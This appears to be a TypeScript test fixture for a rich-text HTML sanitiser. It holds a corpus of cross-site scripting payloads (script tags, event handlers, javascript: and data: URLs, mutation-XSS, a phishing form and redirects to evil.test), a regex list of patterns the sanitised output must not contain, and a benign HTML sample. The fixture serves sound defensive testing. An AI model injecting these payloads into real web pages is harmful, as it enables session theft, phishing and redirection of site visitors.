/** The XSS corpus every rich-text writer is tested with (server/lib/rich-text.ts). */
/** Attacks that must come out harmless; each entry is stored through the API in the area tests too. */
export const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<img src="https://cdn.test/a.png" onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
  '<form action="https://evil.test"><input name="password"></form>',
  '<body onload="alert(1)">',
  '<div onmouseover="alert(1)">hover</div>',
  '<img src="x" onerror=alert(1)//',
  '<scr<script>ipt>alert(1)</script>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<a href="vbscript:msgbox(1)">x</a>',
].join('\n');

/** What the published HTML must never contain after sanitising the corpus. */
export const UNSAFE = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<svg/i,
  /<math/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<meta/i,
  /<base/i,
  /<style/i,
  /style=/i,
  /expression\(/i,
];

export const HARMLESS =
  '<h2>Our mug</h2><p>A <strong>blue</strong> <em>mug</em>, <a href="https://shop.test/care">care</a>.</p>' +
  '<ul><li>one</li></ul><ol><li>two</li></ol>' +
  '<table><thead><tr><th>Size</th></tr></thead><tbody><tr><td>10 cm</td></tr></tbody></table>' +
  '<p><img src="https://cdn.test/mug.png" alt="Mug" /></p>';
